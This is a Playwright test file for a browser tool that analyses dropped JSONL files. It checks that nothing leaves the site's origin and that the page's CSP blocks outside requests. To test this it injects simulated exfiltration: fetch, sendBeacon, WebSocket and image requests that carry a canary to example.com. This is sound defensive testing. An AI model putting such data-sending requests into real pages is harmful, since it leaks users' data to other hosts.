// The privacy proof: from page load through a drop, the explorer and every export,
// no request leaves the site's origin and none carries anything from the file. Four independent
// records: our own server logs method, URL and body of every request that reaches it; Chromium
// contexts run behind a trap proxy of their own that logs anything bound for another origin (HTTP, HTTPS CONNECT,
// WebSocket), which a control request shows it does catch; Playwright's request events (page,
// dedicated worker and service worker) and WebSocket events; and `navigator.sendBeacon`,
// instrumented before the page's own scripts. Then the CSP meta tag must block a fetch, a beacon, a
// WebSocket and an image to another origin that the test injects.
import { after, before, test } from 'node:test';
import { chromium } from 'playwright-core';
import { createServer } from 'node:http';
import { createReadStream, readFileSync, statSync, writeFileSync } from 'node:fs';
import { extname, join, normalize, sep } from 'node:path';
import { assert, clickSample, distFiles, DIST, OUT, SAMPLES } from './harness.mjs';

const ARGS = ['--headless', '--no-sandbox', '--disable-gpu', '--disable-background-networking',
  '--disable-component-update', '--disable-sync', '--no-first-run', '--disable-default-apps'];
const TYPES = { '.html': 'text/html; charset=utf-8', '.js': 'text/javascript; charset=utf-8', '.wasm': 'application/wasm',
  '.css': 'text/css; charset=utf-8', '.json': 'application/json', '.svg': 'image/svg+xml' };

/** Text found only in the dropped file: no request may carry it. */
const CANARY = `canary-${process.pid}-${Date.now()}`;

/** Serves dist/ and logs every request: method, URL, and the bytes of any body. */
function siteServer() {
  const log = [];
  const server = createServer((req, res) => {
    const body = [];
    req.on('data', (c) => body.push(c));
    req.on('end', () => {
      const url = new URL(req.url, 'http://x');
      log.push({ method: req.method, url: req.url, path: url.pathname, search: url.search, body: Buffer.concat(body), headers: req.headers });
      let file = normalize(join(DIST, decodeURIComponent(url.pathname)));
      if (!file.startsWith(normalize(DIST + sep)) && file !== normalize(DIST)) return res.writeHead(403).end();
      try {
        if (statSync(file).isDirectory()) file = join(file, 'index.html');
        res.writeHead(200, { 'content-type': TYPES[extname(file)] || 'application/octet-stream', 'cache-control': 'no-cache' });
        createReadStream(file).pipe(res);
      } catch {
        res.writeHead(404).end();
      }
    });
  });
  return listen(server, log);
}


/** A proxy that forwards nothing: it logs every request Chromium sends through it and refuses it. */
function trapProxy() {
  const log = [];
  const server = createServer((req, res) => {
    log.push({ kind: 'http', method: req.method, url: req.url, host: new URL(req.url).host, fromPage: 'sec-fetch-mode' in req.headers });
    res.writeHead(502).end();
  });
  server.on('connect', (req, socket) => {
    log.push({ kind: 'connect', url: req.url, host: req.url.replace(/:443$/, ''), fromPage: null });
    socket.end('HTTP/1.1 502 Bad Gateway\r\n\r\n');
  });
  server.on('upgrade', (req, socket) => {
    log.push({ kind: 'upgrade', url: req.url, host: req.headers.host, fromPage: true });
    socket.destroy();
  });
  return listen(server, log);
}

function listen(server, log) {
  return new Promise((resolve) => server.listen(0, '127.0.0.1', () => resolve({
    log,
    port: server.address().port,
    url: `http://127.0.0.1:${server.address().port}/`,
    close: () => new Promise((r) => { server.closeAllConnections?.(); server.close(r); }),
  })));
}

let site;
let proxy;
let browserProxy;
let browser;
before(async () => {
  site = await siteServer();
  // Two traps. The page's contexts get their own (`proxy`): everything the page, its workers and
  // its service worker send to another origin goes through it, and every entry, CONNECT included,
  // fails the test; nothing is set aside by host. Chromium's own background services (component
  // updates, sign-in), which it calls whatever the page does and despite
  // --disable-background-networking, use the browser's proxy (`browserProxy`), which keeps the
  // machine offline and is not asserted on. Autofill's server calls belong to a context, so they
  // are turned off rather than told apart.
  proxy = await trapProxy();
  browserProxy = await trapProxy();
  // Loopback goes direct (Chromium's implicit bypass), so only other origins reach the proxies.
  browser = await chromium.launch({ executablePath: '/usr/bin/chromium', args: [...ARGS,
    '--disable-features=AutofillServerCommunication', `--proxy-server=http://127.0.0.1:${browserProxy.port}`] });
});
after(async () => {
  await browser?.close();
  await site?.close();
  await proxy?.close();
  await browserProxy?.close();
});
// The site itself (loopback) goes direct, as with the browser's proxy.
const pageProxy = () => ({ server: `http://127.0.0.1:${proxy.port}`, bypass: '127.0.0.1' });

async function download(page, selector) {
  const [d] = await Promise.all([page.waitForEvent('download'), page.click(selector)]);
  return readFileSync(await d.path());
}

test('privacy: nothing leaves the origin and nothing carries file bytes; the CSP blocks an injected fetch', { timeout: 120000 }, async () => {
  // A file whose ids and group hold the canary.
  const lines = readFileSync(join(SAMPLES, 'choice.jsonl'), 'utf8').trim().split('\n');
  const file = join(OUT, `privacy-${CANARY}.jsonl`);
  writeFileSync(file, [...lines, JSON.stringify({ id: `${CANARY}-id`, group: `${CANARY}-group`, options: ['A', 'B'], gold: 'A', probs: { A: 0.6, B: 0.4 } })].join('\n') + '\n');

  const context = await browser.newContext({ proxy: pageProxy(), serviceWorkers: 'allow', acceptDownloads: true, viewport: { width: 1280, height: 900 } });
  await context.grantPermissions(['clipboard-read', 'clipboard-write'], { origin: site.url });
  const seen = [];
  context.on('request', (r) => seen.push({ url: r.url(), method: r.method(), body: r.postDataBuffer(), sw: Boolean(r.serviceWorker()) }));
  await context.addInitScript(() => {
    window.__beacons = [];
    window.__violations = [];
    const beacon = navigator.sendBeacon.bind(navigator);
    navigator.sendBeacon = (url, data) => { window.__beacons.push(String(url)); return beacon(url, data); };
    document.addEventListener('securitypolicyviolation', (e) => window.__violations.push({ uri: e.blockedURI, directive: e.effectiveDirective }));
  });
  const page = await context.newPage();
  const sockets = [];
  page.on('websocket', (ws) => sockets.push(ws.url()));
  const errors = [];
  page.on('pageerror', (e) => errors.push(`pageerror: ${e.message}`));
  page.on('console', (m) => { if (m.type() === 'error') errors.push(`console: ${m.text()}`); });
  page.on('dialog', (d) => { errors.push(`dialog: ${d.message()}`); d.dismiss(); });

  // Load, with the service worker installed and in control (it fetches the site for offline use).
  await page.goto(site.url);
  await page.waitForSelector('button.sample');
  await page.evaluate(async () => { await navigator.serviceWorker.ready; });
  await page.waitForFunction(() => navigator.serviceWorker.controller !== null);

  // Drop the file, explore it, switch every view, and export everything.
  await page.setInputFiles('[data-testid=file-input]', file);
  await page.waitForSelector('[data-testid=report]', { timeout: 60000 });
  await page.waitForSelector('.viewport .item');
  await page.fill('[data-testid=explorer-search]', CANARY);
  await page.waitForSelector(`.viewport .item[data-id="${CANARY}-id"]`);
  await page.hover(`.viewport .item[data-id="${CANARY}-id"] .id`);
  await page.selectOption('[data-testid=explorer-show]', 'wrong');
  await page.fill('[data-testid=explorer-group]', `${CANARY}-group`);
  await page.check('[data-testid=reading-both]');
  await page.check('[data-testid=binning-mass]');
  await page.selectOption('[data-testid=profile]', 'steer');
  await page.waitForSelector('[data-testid=report-header][data-profile=steer]');
  const exported = {};
  for (const kind of ['json', 'csv', 'md', 'svg', 'png']) exported[kind] = await download(page, `[data-testid=report] [data-export=${kind}]`);
  for (const kind of ['copy-csv', 'copy-md']) {
    await page.click(`[data-testid=report] [data-export=${kind}]`);
    await page.waitForFunction(() => document.querySelector('[data-testid=report] [data-testid=export] [role=status]').textContent.includes('copied'));
  }
  assert.ok(exported.json.toString('utf8').includes(CANARY), 'the exports do hold the file\'s text (they stay on the device)');
  // A sample too: fetched from the site (a GET of a file the site ships).
  await clickSample(page, 'binary.jsonl');
  await page.waitForSelector('[data-testid=comparison]', { timeout: 60000 });
  await page.waitForSelector('main[data-testid=app][data-status=done]', { timeout: 60000 });
  assert.deepEqual(errors, [], 'no page error, console error or dialog during the session');

  // The CSP meta tag: present, strict, and it blocks what a script injected into the page tries.
  const csp = await page.getAttribute('meta[http-equiv=Content-Security-Policy]', 'content');
  assert.ok(csp, 'the CSP meta tag is present');
  for (const d of ["default-src 'self'", "connect-src 'self'", "object-src 'none'", "form-action 'none'"]) {
    assert.ok(csp.includes(d), `the CSP has ${d}`);
  }
  const before = { site: site.log.length, proxy: proxy.log.length };
  const injected = await page.evaluate(async (canary) => {
    const out = {};
    try {
      await fetch(`https://example.com/leak?d=${canary}`, { method: 'POST', body: canary, mode: 'no-cors' });
      out.fetch = 'sent';
    } catch (e) {
      out.fetch = `rejected: ${e.name}`;
    }
    try {
      out.beacon = navigator.sendBeacon(`https://example.com/beacon?d=${canary}`, canary);
    } catch (e) {
      out.beacon = `threw: ${e.name}`;
    }
    try {
      const ws = new WebSocket(`wss://example.com/socket?d=${canary}`);
      out.ws = await new Promise((r) => { ws.onopen = () => r('open'); ws.onerror = () => r('error'); });
    } catch (e) {
      out.ws = `threw: ${e.name}`;
    }
    const img = new Image();
    out.img = await new Promise((r) => { img.onload = () => r('loaded'); img.onerror = () => r('error'); img.src = `http://example.com/pixel.png?d=${canary}`; });
    // Every attempt has been refused (its violation event fired) before the proxy log is read.
    const end = Date.now() + 10000;
    await new Promise((r) => { const seen = () => (window.__violations.length >= 4 || Date.now() > end ? r() : setTimeout(seen, 10)); seen(); });
    return out;
  }, CANARY);
  assert.equal(injected.fetch, 'rejected: TypeError', 'the injected fetch is refused');
  assert.notEqual(injected.ws, 'open');
  assert.equal(injected.img, 'error');
  const violations = await page.evaluate(() => window.__violations);
  for (const [directive, host] of [['connect-src', 'https://example.com/leak'], ['connect-src', 'https://example.com/beacon'],
    ['connect-src', 'wss://example.com/socket'], ['img-src', 'http://example.com/pixel.png']]) {
    assert.ok(violations.some((v) => v.directive === directive && v.uri.startsWith(host)), `a CSP violation (${directive}) for ${host}: ${JSON.stringify(violations)}`);
  }
  assert.deepEqual(await page.evaluate(() => window.__beacons), [`https://example.com/beacon?d=${CANARY}`], 'the beacon record works, and the page itself sent none');
  assert.deepEqual(proxy.log.slice(before.proxy), [], 'nothing injected reached the network');
  assert.equal(site.log.length, before.site, 'nor the site');

  // The records. Our server: every request a GET of a file the site ships, no query, no body.
  const own = distFiles();
  assert.ok(site.log.length > 5, 'the server saw the page load');
  for (const r of site.log) {
    assert.equal(r.method, 'GET', `${r.method} ${r.url}`);
    assert.equal(r.body.length, 0, `a request with a body: ${r.url}`);
    assert.equal(r.search, '', `a request with a query: ${r.url}`);
    assert.ok(own.has(r.path === '/' ? '/index.html' : r.path), `not a file of the site: ${r.url}`);
    assert.ok(!r.url.includes(CANARY) && !JSON.stringify(r.headers).includes(CANARY), `the file's text in a request: ${r.url}`);
  }
  // Playwright's view: page, dedicated worker and service worker requests; the service worker's
  // install fetches are among them, which shows they are watched.
  assert.ok(seen.some((r) => r.sw), 'service-worker requests are recorded');
  assert.ok(seen.some((r) => r.url.endsWith('.wasm')), 'the wasm fetches are recorded');
  const origin = new URL(site.url).origin;
  for (const r of seen) {
    if (r.url.startsWith('blob:') || r.url.startsWith('data:')) {
      assert.equal(r.method, 'GET', r.url);
      continue;
    }
    if (r.url.startsWith('https://example.com/') || r.url.startsWith('http://example.com/') || r.url.startsWith('wss://example.com/')) continue; // the injected ones, refused above
    assert.equal(new URL(r.url).origin, origin, `a request to another origin: ${r.url}`);
    assert.equal(r.method, 'GET', `${r.method} ${r.url}`);
    assert.ok(!r.body || r.body.length === 0, `a request body: ${r.url}`);
  }
  assert.deepEqual(sockets.filter((u) => !u.startsWith('wss://example.com/')), [], 'no WebSocket but the injected one');
  // The trap proxy saw nothing from the whole session...
  assert.deepEqual(proxy.log, [], 'nothing was sent to another origin');
  await context.close();

  // ...and it does catch what leaves: a page without a CSP sends a request through it.
  const control = await browser.newContext({ proxy: pageProxy() });
  const blank = await control.newPage();
  // The fetch settles once the proxy has answered it (502): the proxy has logged it by then.
  await blank.evaluate(() => fetch('http://example.com/control', { mode: 'no-cors' }).catch(() => {}));
  await control.close();
  assert.ok(proxy.log.some((r) => r.url === 'http://example.com/control'), `the trap proxy catches requests to other origins: ${JSON.stringify(proxy.log)}`);
});
